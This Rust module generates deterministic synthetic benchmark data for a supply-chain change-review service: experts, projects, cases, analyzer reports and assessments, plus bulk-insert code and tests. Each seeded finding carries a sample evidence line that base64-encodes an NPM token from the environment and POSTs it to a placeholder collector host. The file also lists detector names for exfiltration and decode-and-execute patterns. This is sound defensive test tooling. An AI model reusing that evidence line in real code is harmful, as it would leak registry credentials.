//! Synthetic data for benchmarks and load tests (`s-express admin seed`).
//!
//! Generates a plausible instance: language subgroups, experts in two subgroups each (some with
//! organization affiliations, so conflict exclusion has work to do), projects spread over
//! owner organizations, and cases with a realistic status mix — mostly published, a few percent
//! waiting in experts' queues. Each case carries an automated report shaped like the analyzer's
//! (findings with evidence and explanations, 1–3 KB of JSON, so table scans read realistically
//! sized rows) from a mix of noisy detectors that fire on any change and telling ones that
//! fire mostly on changes experts later call hostile; verdicts are mostly benign; the
//! maintainer's suspicion leans towards the verdict. Assessments are spread evenly over the
//! cases, embedded in their case documents *and* written to the `assessments` projection,
//! exactly as a real save would. Everything is deterministic in the case index (a fixed hash,
//! no random generator), so two runs produce the same data.
//!
//! Rows are inserted with multi-row `INSERT … VALUES` statements in large transactions on both
//! backends. Seeded cases are not written to the transparency log: they are benchmark data, not
//! history (one `seed.loaded` entry records that seeding happened).

use std::collections::BTreeSet;
use std::str::FromStr;

use sx_domain::{
    Affiliation, Assessment, AssessmentBody, AssessmentId, AssessmentStatus, Case, CaseId,
    CaseStatus, ChangeSource, Concern, Confidence, Embargo, ExpertProfile, Forge, Language, Level,
    Project, ProjectId, Revision, Role, Subgroup, SubgroupId, SubgroupKind, SuspicionLevel,
    TlpLabel, User, UserId, Verdict,
};
use time::{Duration, OffsetDateTime};
use uuid::Uuid;

use crate::StoreError;

/// How much to generate.
#[derive(Clone, Debug)]
pub struct SeedSpec {
    /// Cases to create.
    pub cases: u64,
    /// Assessments to create (one each on `assessments` cases spread evenly over all of them,
    /// capped at `cases`).
    pub assessments: u64,
    /// Projects to spread the cases over.
    pub projects: u64,
    /// Experts to create.
    pub experts: u64,
    /// Time of the first case; cases follow at one-minute intervals.
    pub start: OffsetDateTime,
}

impl SeedSpec {
    /// A spec with defaults for everything but the counts.
    pub fn new(cases: u64, assessments: u64) -> Self {
        SeedSpec {
            cases,
            assessments: assessments.min(cases),
            projects: 2_000,
            experts: 200,
            start: OffsetDateTime::UNIX_EPOCH + Duration::days(20_000),
        }
    }
}

/// What was generated.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SeedReport {
    /// Cases inserted.
    pub cases: u64,
    /// Assessments inserted.
    pub assessments: u64,
    /// Projects inserted.
    pub projects: u64,
    /// Experts inserted.
    pub experts: u64,
    /// Subgroups inserted.
    pub subgroups: u64,
}

/// Cases per multi-row INSERT (well under both backends' bind-parameter limits).
pub(crate) const BATCH: usize = 500;

/// Deterministic id from a namespace and an index, so reruns and benches can find things.
pub fn seed_id(namespace: u8, i: u64) -> Uuid {
    Uuid::from_u128((0x5e ^ u128::from(namespace)) << 120 | u128::from(i))
}

/// The seeded maintainer who "submitted" every case.
pub fn maintainer(start: OffsetDateTime) -> User {
    User {
        id: UserId(seed_id(1, 0)),
        handle: "seed-maintainer".into(),
        display_name: "Seed Maintainer".into(),
        roles: BTreeSet::from([Role::Maintainer]),
        expert: None,
        created_at: start,
    }
}

/// The language subgroups (one per language).
pub fn subgroups(experts: u64) -> Vec<Subgroup> {
    let langs = Language::ALL;
    langs
        .iter()
        .enumerate()
        .map(|(k, lang)| {
            let k = k as u64;
            let n = langs.len() as u64;
            // Expert e belongs to subgroups e % n and (e + 1) % n.
            let members = (0..experts)
                .filter(|e| e % n == k || (e + 1) % n == k)
                .map(|e| UserId(seed_id(2, e)))
                .collect();
            Subgroup {
                id: SubgroupId(seed_id(3, k)),
                slug: lang.as_str().to_string(),
                name: format!("{lang} experts"),
                kind: SubgroupKind::Language,
                members,
                coordinators: Vec::new(),
                routing: sx_domain::RoutingRules {
                    languages: BTreeSet::from([*lang]),
                    vectors: BTreeSet::new(),
                },
            }
        })
        .collect()
}

/// Expert number `e`; every fifth declares an affiliation with an owner organization.
pub fn expert(e: u64, start: OffsetDateTime) -> User {
    let affiliations = if e.is_multiple_of(5) {
        vec![Affiliation::Organization {
            name: format!("org-{}", e % 300),
        }]
    } else {
        Vec::new()
    };
    User {
        id: UserId(seed_id(2, e)),
        handle: format!("expert-{e}"),
        display_name: format!("Expert {e}"),
        roles: BTreeSet::from([Role::Expert]),
        expert: Some(ExpertProfile {
            affiliations,
            ..ExpertProfile::default()
        }),
        created_at: start,
    }
}

/// Project number `p`, owned by one of 300 organizations.
pub fn project(p: u64, start: OffsetDateTime) -> Project {
    Project {
        id: ProjectId(seed_id(4, p)),
        forge: Forge::Github,
        host: "github.com".into(),
        owner: format!("org-{}", p % 300),
        name: format!("project-{p}"),
        maintainers: vec![UserId(seed_id(1, 0))],
        created_at: start,
    }
}

/// Case number `i` of a seed run.
pub fn case(spec: &SeedSpec, i: u64) -> Result<Case, StoreError> {
    let invalid = |e: sx_domain::ValidationError| StoreError::Invalid(format!("seed data: {e}"));
    let langs = Language::ALL;
    let lang = langs[(i % langs.len() as u64) as usize];
    let received_at = spec.start + Duration::minutes(i as i64);
    // 90 % published, 5 % triaged, 3 % claimed, 2 % received.
    let status = match i % 100 {
        0..=89 => CaseStatus::Published,
        90..=94 => CaseStatus::Triaged,
        95..=97 => CaseStatus::Claimed,
        _ => CaseStatus::Received,
    };
    let vector =
        sx_domain::AttackVector::ALL[(i % sx_domain::AttackVector::ALL.len() as u64) as usize];
    let mut subgroups = vec![SubgroupId(seed_id(3, i % langs.len() as u64))];
    if i.is_multiple_of(3) {
        subgroups.push(SubgroupId(seed_id(3, (i + 5) % langs.len() as u64)));
    }
    let published = status == CaseStatus::Published;
    let verdict = verdict(i);
    let mut case = Case {
        id: CaseId(seed_id(5, i)),
        project_id: ProjectId(seed_id(4, i % spec.projects.max(1))),
        submitted_by: UserId(seed_id(1, 0)),
        source: ChangeSource {
            pull_request_url: Some(format!(
                "https://github.com/org-{}/project-{}/pull/{i}",
                (i % spec.projects.max(1)) % 300,
                i % spec.projects.max(1)
            )),
            patch_ref: None,
            author: Some(format!("contributor-{}", i % 5_000)),
            title: Some(format!("Update dependency {i}")),
        },
        revision: Revision::new(&format!("{:040x}", i), &format!("{:040x}", i + 1))
            .map_err(invalid)?,
        previous_revisions: Vec::new(),
        concern: Concern {
            text: "looks dodgy".into(),
            suspicion: SuspicionLevel::new(suspicion(i, verdict)).map_err(invalid)?,
            tags: vec![lang.as_str().to_string(), vector.as_str().to_string()],
        },
        report: Some(report(i, verdict)?),
        tlp: if published {
            TlpLabel::Clear
        } else {
            TlpLabel::AmberStrict
        },
        status,
        triage: None,
        subgroups,
        claims: Vec::new(),
        assessments: Vec::new(),
        second_reviews: Vec::new(),
        decision: None,
        embargo: Embargo::default(),
        grace_extensions: Vec::new(),
        participants: Vec::new(),
        read_in_rules: Vec::new(),
        received_at,
        first_claimed_at: None,
        first_assessed_at: None,
        published_at: published.then(|| received_at + publication_delay(i)),
        updated_at: received_at,
    };
    if assessed(spec, i) {
        let at = first_assessment_delay(i).map_or(received_at, |d| received_at + d);
        case.assessments.push(Assessment {
            id: AssessmentId(seed_id(6, i)),
            case_id: case.id,
            expert: UserId(seed_id(2, i % spec.experts.max(1))),
            revision: case.revision.clone(),
            status: AssessmentStatus::Submitted,
            body: Some(AssessmentBody {
                verdict,
                confidence: Confidence::Medium,
                summary: "Synthetic assessment".into(),
                rationale: "Generated by s-express admin seed.".into(),
                recommended_actions: Vec::new(),
                references: Vec::new(),
                time_spent_minutes: 30,
                thoroughness: Level::Medium,
                understanding: Level::High,
            }),
            tlp: case.tlp,
            created_at: at,
            submitted_at: Some(at),
            updated_at: at,
        });
        case.first_assessed_at = Some(at);
    }
    Ok(case)
}

/// A fixed 64-bit mix of the case index and a salt (splitmix64's finaliser): the seed's only
/// source of variety, so every run generates the same data.
pub fn mix(i: u64, salt: u64) -> u64 {
    let mut z = i
        .wrapping_mul(0x9E37_79B9_7F4A_7C15)
        .wrapping_add(salt.wrapping_mul(0xD1B5_4A32_D192_ED03));
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Per mille, from the mix: `true` with probability `per_mille / 1000`.
fn chance(i: u64, salt: u64, per_mille: u64) -> bool {
    mix(i, salt) % 1000 < per_mille
}

/// The expert verdict seeded case `i` gets (if assessed): 50 % benign, 12 % inconclusive,
/// 25 % suspicious, 13 % malicious.
pub fn verdict(i: u64) -> Verdict {
    match mix(i, 1) % 100 {
        0..=49 => Verdict::Benign,
        50..=61 => Verdict::Inconclusive,
        62..=86 => Verdict::Suspicious,
        _ => Verdict::Malicious,
    }
}

/// The maintainer's suspicion (1–5): spread over the scale, one level higher on changes the
/// experts later find hostile and one lower on benign ones.
pub fn suspicion(i: u64, verdict: Verdict) -> u8 {
    let base = 1 + (mix(i, 2) % 5) as u8;
    match verdict {
        Verdict::Malicious | Verdict::Suspicious => (base + 1).min(5),
        Verdict::Benign => base.saturating_sub(1).max(1),
        Verdict::Inconclusive => base,
    }
}

/// Whether seeded case `i` has an expert assessment: `spec.assessments` of the `spec.cases`,
/// spread evenly.
pub fn assessed(spec: &SeedSpec, i: u64) -> bool {
    let (a, n) = (
        u128::from(spec.assessments.min(spec.cases)),
        u128::from(spec.cases.max(1)),
    );
    let i = u128::from(i);
    (i + 1) * a / n > i * a / n
}

/// How long after receipt a published seeded case was published: three days plus 0–23 hours.
pub fn publication_delay(i: u64) -> Duration {
    Duration::days(3) + Duration::hours(((i * 13) % 24) as i64)
}

/// Detectors that fire on any kind of change, with their rate per mille of cases.
pub const NOISY_DETECTORS: [(&str, u64); 10] = [
    ("dep-new-dependency", 300),
    ("gha-unpinned-action", 180),
    ("new-author-sensitive-files", 150),
    ("encoded-blob", 120),
    ("generated-file-edited", 100),
    ("dep-lockfile-only", 80),
    ("test-skip-added", 60),
    ("line-too-long-to-review", 50),
    ("binary-opaque-blob", 40),
    ("gha-permissions-broadened", 40),
];

/// Detectors that fire mostly on hostile changes: rate per mille on cases experts call
/// malicious or suspicious, and on the others.
pub const TELLING_DETECTORS: [(&str, u64, u64); 14] = [
    ("behaviour-chain", 150, 10),
    ("decode-exec", 120, 5),
    ("npm-lifecycle-script", 120, 30),
    ("obfuscated-code", 90, 15),
    ("exfil-service-endpoint", 80, 5),
    ("build-script-fetch", 70, 20),
    ("gha-pr-target-checkout", 60, 10),
    ("dep-typosquat", 60, 10),
    ("python-install-hook", 60, 10),
    ("ip-literal-endpoint", 50, 10),
    ("gha-secrets-exposure", 40, 5),
    ("tls-verification-disabled", 30, 25),
    ("unicode-bidi-control", 30, 2),
    ("triggered-destruction", 10, 1),
];

/// What an explanation in the seeded reports reads like (the analyzer writes a paragraph).
const EXPLANATION: &str = "The change adds code that matches a pattern seen in real supply-chain \
    attacks. On its own this can be harmless, but together with the other findings of this change it \
    deserves a careful look: check where the data comes from, where it goes, and whether the \
    pull request's description explains why the project needs it. Synthetic text generated by \
    s-express admin seed.";

/// The automated report of seeded case `i` whose (later) verdict is `verdict`: noisy
/// detectors at their base rates, telling ones mostly on hostile cases, at least one finding.
/// `full` is shaped like the analyzer's JSON report (`docs/report-schema.md`).
pub fn report(i: u64, verdict: Verdict) -> Result<sx_domain::AutomatedReport, StoreError> {
    let invalid = |e: sx_domain::ValidationError| StoreError::Invalid(format!("seed data: {e}"));
    let hostile = matches!(verdict, Verdict::Malicious | Verdict::Suspicious);
    let mut finding_ids: Vec<String> = Vec::new();
    for (k, (id, rate)) in NOISY_DETECTORS.iter().enumerate() {
        if chance(i, 100 + k as u64, *rate) {
            finding_ids.push((*id).to_string());
        }
    }
    for (k, (id, on_hostile, otherwise)) in TELLING_DETECTORS.iter().enumerate() {
        if chance(
            i,
            200 + k as u64,
            if hostile { *on_hostile } else { *otherwise },
        ) {
            finding_ids.push((*id).to_string());
        }
    }
    if finding_ids.is_empty() {
        finding_ids.push(
            NOISY_DETECTORS[(i % NOISY_DETECTORS.len() as u64) as usize]
                .0
                .to_string(),
        );
    }
    let (risk, band) = if hostile {
        (0.9, sx_domain::RiskBand::High)
    } else {
        (0.2, sx_domain::RiskBand::Low)
    };
    let findings: Vec<serde_json::Value> = finding_ids
        .iter()
        .enumerate()
        .map(|(k, id)| {
            let k64 = k as u64;
            let severity = ["low", "medium", "high", "critical"][(mix(i, 300 + k64) % 4) as usize];
            let confidence = ["low", "medium", "high"][(mix(i, 400 + k64) % 3) as usize];
            serde_json::json!({
                "id": id,
                "title": format!("Synthetic finding of {id}"),
                "severity": severity,
                "confidence": confidence,
                "path": format!("src/module_{}/file_{}.js", mix(i, 500) % 40, k),
                "line": 1 + mix(i, 600 + k as u64) % 400,
                "column": 1 + mix(i, 700 + k as u64) % 80,
                "evidence": format!(
                    "const payload{k} = Buffer.from(process.env.NPM_TOKEN_{i}, 'utf8').toString('base64'); \
                     https.request({{ hostname: 'collector-{}.example.invalid', method: 'POST' }})",
                    mix(i, 800) % 1000
                ),
                "explanation": EXPLANATION,
                "tags": ["payload", "exfiltration"],
                "doc": format!("docs/detectors/{id}.md"),
                "fingerprint": format!("{:016x}{:016x}{:016x}{:016x}", mix(i, 900 + k as u64), mix(i, 901), mix(i, 902), mix(i, 903)),
                "score": 1.5 + (mix(i, 1000 + k as u64) % 40) as f64 / 10.0,
            })
        })
        .collect();
    let full = serde_json::json!({
        "schema_version": 1,
        "analyzer": { "name": "s-express", "version": "0.1.0", "model_version": 1, "detectors": 59 },
        "risk": {
            "probability": risk,
            "band": band.as_str(),
            "logit": if hostile { 2.2 } else { -1.4 },
            "contributions": finding_ids.iter().map(|d| serde_json::json!({ "detector": d, "value": 1.0 })).collect::<Vec<_>>(),
        },
        "findings": findings,
        "summary": { "files": 1 + i % 12, "added_lines": 5 + i % 400, "removed_lines": i % 90, "binary_files": 0, "commits": 1 + i % 4 },
    });
    Ok(sx_domain::AutomatedReport {
        risk: sx_domain::RiskProbability::new(risk).map_err(invalid)?,
        band,
        finding_ids,
        tags: Vec::new(),
        full,
    })
}

/// How long after receipt seeded case `i` got its automated report (1–30 s).
pub fn report_delay(i: u64) -> Duration {
    Duration::seconds(1 + (i % 30) as i64)
}

/// How long after receipt seeded case `i` got its first human assessment, if it is assessed:
/// spread from 30 minutes to two days, so some miss the 24-hour target.
pub fn first_assessment_delay(i: u64) -> Option<Duration> {
    Some(Duration::minutes(30 + ((i * 37) % (48 * 60)) as i64))
}

/// Parses a language tag (for callers building filters from text).
pub fn language(tag: &str) -> Option<Language> {
    Language::from_str(tag).ok()
}

/// Expands the backend-specific `seed` method (multi-row inserts through `QueryBuilder`).
macro_rules! impl_seed {
    ($Store:ident) => {
        impl $Store {
            /// Bulk-loads synthetic data (see [`crate::seed`]). Ids are deterministic, so seeding
            /// twice into one database fails with a duplicate error instead of doubling data.
            pub async fn seed(&self, spec: &crate::seed::SeedSpec) -> StoreResult<crate::seed::SeedReport> {
                use crate::seed;
                let mut report = seed::SeedReport::default();
                let start = spec.start;
                let mut tx = self.begin_write().await?;
                let maintainer = seed::maintainer(start);
                insert_user(&mut tx, &maintainer).await?;
                for e in 0..spec.experts {
                    insert_user(&mut tx, &seed::expert(e, start)).await?;
                    report.experts += 1;
                }
                for g in seed::subgroups(spec.experts) {
                    sqlx::query("INSERT INTO subgroups (id, slug, doc, version) VALUES ($1, $2, $3, 1)")
                        .bind(g.id.0)
                        .bind(&g.slug)
                        .bind(Json(&g))
                        .execute(&mut *tx)
                        .await
                        .map_err(|e| StoreError::unique(e, "subgroup", &g.slug))?;
                    write_members(&mut tx, &g).await?;
                    report.subgroups += 1;
                }
                for p in 0..spec.projects {
                    let project = seed::project(p, start);
                    let (owner, name) = project_key(&project);
                    sqlx::query(
                        "INSERT INTO projects (id, forge, host, owner_norm, name_norm, doc, version, created_at) \
                         VALUES ($1, $2, $3, $4, $5, $6, 1, $7)",
                    )
                    .bind(project.id.0)
                    .bind(project.forge.as_str())
                    .bind(&project.host)
                    .bind(&owner)
                    .bind(&name)
                    .bind(Json(&project))
                    .bind(DbTime(project.created_at))
                    .execute(&mut *tx)
                    .await
                    .map_err(|e| StoreError::unique(e, "project", project.full_name()))?;
                    write_maintainers(&mut tx, &project).await?;
                    report.projects += 1;
                }
                tx.commit().await?;

                let mut i = 0u64;
                while i < spec.cases {
                    let mut tx = self.begin_write().await?;
                    // 20 batches per transaction: large enough to amortize commits.
                    for _ in 0..20 {
                        if i >= spec.cases {
                            break;
                        }
                        let end = (i + seed::BATCH as u64).min(spec.cases);
                        let mut cases = Vec::with_capacity(seed::BATCH);
                        for n in i..end {
                            let case = seed::case(spec, n)?;
                            let idx = CaseIndex::of(&case, self.sla);
                            let project = seed::project(n % spec.projects.max(1), start);
                            cases.push((case, idx, project_key(&project)));
                        }
                        let mut q = sqlx::QueryBuilder::<Db>::new(
                            "INSERT INTO cases (id, project_id, status, tlp, queue_open, received_at, sla_due, \
                             published_at, updated_at, verdict, owner_norm, name_norm, author_norm, pull_request_url, \
                             doc, version, suspicion, reported_at, first_assessed_at) ",
                        );
                        q.push_values(&cases, |mut b, (case, idx, (owner, name))| {
                            b.push_bind(case.id.0)
                                .push_bind(case.project_id.0)
                                .push_bind(idx.status)
                                .push_bind(idx.tlp)
                                .push_bind(idx.queue_open)
                                .push_bind(DbTime(case.received_at))
                                .push_bind(DbTime(idx.sla_due))
                                .push_bind(idx.published_at.map(DbTime))
                                .push_bind(DbTime(case.updated_at))
                                .push_bind(idx.verdict)
                                .push_bind(owner.clone())
                                .push_bind(name.clone())
                                .push_bind(idx.author_norm.clone())
                                .push_bind(idx.pull_request_url.clone())
                                .push_bind(Json(case.clone()))
                                .push_bind(1i64)
                                .push_bind(idx.suspicion)
                                .push_bind(DbTime(case.received_at + seed::report_delay(case_index(case))))
                                .push_bind(idx.first_assessed_at.map(DbTime));
                        });
                        q.build().execute(&mut *tx).await.map_err(|e| StoreError::unique(e, "case", "(seeded)"))?;
                        let subgroups: Vec<(Uuid, Uuid)> =
                            cases.iter().flat_map(|(c, idx, _)| idx.subgroups.iter().map(move |s| (c.id.0, *s))).collect();
                        let mut q = sqlx::QueryBuilder::<Db>::new("INSERT INTO case_subgroups (case_id, subgroup_id) ");
                        q.push_values(&subgroups, |mut b, (c, s)| {
                            b.push_bind(*c).push_bind(*s);
                        });
                        q.build().execute(&mut *tx).await?;
                        let tags: Vec<(Uuid, &'static str, &'static str)> = cases
                            .iter()
                            .flat_map(|(c, idx, _)| idx.tags.iter().map(move |(k, v)| (c.id.0, *k, *v)))
                            .collect();
                        if !tags.is_empty() {
                            let mut q = sqlx::QueryBuilder::<Db>::new("INSERT INTO case_tags (case_id, kind, value) ");
                            q.push_values(&tags, |mut b, (c, k, v)| {
                                b.push_bind(*c).push_bind(*k).push_bind(*v);
                            });
                            q.build().execute(&mut *tx).await?;
                        }
                        let findings: Vec<(Uuid, &str)> = cases
                            .iter()
                            .flat_map(|(c, idx, _)| idx.detectors.iter().map(move |d| (c.id.0, d.as_str())))
                            .collect();
                        if !findings.is_empty() {
                            let mut q = sqlx::QueryBuilder::<Db>::new("INSERT INTO case_findings (case_id, detector) ");
                            q.push_values(&findings, |mut b, (c, d)| {
                                b.push_bind(*c).push_bind(d.to_string());
                            });
                            q.build().execute(&mut *tx).await?;
                        }
                        let assessments: Vec<(Uuid, &crate::index::AssessmentRow)> = cases
                            .iter()
                            .flat_map(|(c, idx, _)| idx.assessments.iter().map(move |a| (c.id.0, a)))
                            .collect();
                        if !assessments.is_empty() {
                            let mut q = sqlx::QueryBuilder::<Db>::new(
                                "INSERT INTO assessments (id, case_id, expert_id, status, verdict, submitted_at, updated_at) ",
                            );
                            q.push_values(&assessments, |mut b, (c, a)| {
                                b.push_bind(a.id)
                                    .push_bind(*c)
                                    .push_bind(a.expert_id)
                                    .push_bind(a.status)
                                    .push_bind(a.verdict)
                                    .push_bind(a.submitted_at.map(DbTime))
                                    .push_bind(DbTime(a.updated_at));
                            });
                            q.build().execute(&mut *tx).await?;
                            report.assessments += assessments.len() as u64;
                        }
                        report.cases += cases.len() as u64;
                        i = end;
                    }
                    tx.commit().await?;
                }
                let mut tx = self.begin_write().await?;
                let record = LogRecord {
                    kind: "seed.loaded".into(),
                    case_id: None,
                    content: serde_json::json!({ "cases": report.cases, "assessments": report.assessments }),
                    sealed: false,
                };
                append_record(&mut tx, &record, OffsetDateTime::now_utc()).await?;
                tx.commit().await?;
                Ok(report)
            }
        }

        /// The seed index a seeded case id encodes (see [`seed::seed_id`]).
        fn case_index(case: &Case) -> u64 {
            (case.id.0.as_u128() & u128::from(u64::MAX)) as u64
        }

        async fn insert_user(conn: &mut Conn, user: &User) -> StoreResult<()> {
            sqlx::query(
                "INSERT INTO users (id, handle_norm, password_hash, disabled, doc, version, created_at) \
                 VALUES ($1, $2, NULL, FALSE, $3, 1, $4)",
            )
            .bind(user.id.0)
            .bind(sx_domain::normalize_identity(&user.handle))
            .bind(Json(user))
            .bind(DbTime(user.created_at))
            .execute(&mut *conn)
            .await
            .map_err(|e| StoreError::unique(e, "user", &user.handle))?;
            Ok(())
        }
    };
}

pub(crate) use impl_seed;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeded_cases_have_the_documented_status_mix() {
        let spec = SeedSpec::new(1_000, 200);
        let mut open = 0;
        let mut published = 0;
        let mut assessed = 0;
        for i in 0..spec.cases {
            let c = case(&spec, i).unwrap();
            if crate::QUEUE_STATUSES.contains(&c.status) {
                open += 1;
            }
            if c.status == CaseStatus::Published {
                published += 1;
                assert_eq!(c.tlp, TlpLabel::Clear);
            }
            assessed += c.assessments.len();
        }
        assert_eq!(open, 80);
        assert_eq!(published, 900);
        assert_eq!(assessed, 200);
    }

    #[test]
    fn seeded_verdicts_findings_and_documents_look_like_a_real_instance() {
        let spec = SeedSpec::new(10_000, 8_500);
        let mut benign = 0;
        let mut tally = sx_domain::DetectorTally::default();
        let mut doc_bytes = 0;
        for i in 0..spec.cases {
            let c = case(&spec, i).unwrap();
            let v = c.effective_verdict().map(|e| e.verdict);
            benign += usize::from(v == Some(Verdict::Benign));
            let report = c.report.as_ref().unwrap();
            assert!(!report.finding_ids.is_empty());
            tally.add(report.finding_ids.iter().map(String::as_str), v);
            doc_bytes += serde_json::to_vec(&c).unwrap().len();
        }
        // Half of the assessed cases are benign (8,500 assessed).
        assert!((3_800..4_700).contains(&benign), "{benign}");
        let records = tally.into_records();
        let precision = |id: &str| {
            records
                .iter()
                .find(|r| r.detector == id)
                .unwrap()
                .precision()
                .unwrap()
        };
        assert!(
            precision("decode-exec") > 0.9,
            "{}",
            precision("decode-exec")
        );
        assert!((0.3..0.5).contains(&precision("dep-new-dependency")));
        assert!(records.len() >= 20, "{}", records.len());
        let mean = doc_bytes / spec.cases as usize;
        assert!(
            (1_000..4_000).contains(&mean),
            "mean case document {mean} bytes"
        );
    }

    #[test]
    fn seed_ids_do_not_collide_across_namespaces() {
        assert_ne!(seed_id(1, 7), seed_id(2, 7));
        assert_ne!(seed_id(5, 0), seed_id(5, 1));
    }
}
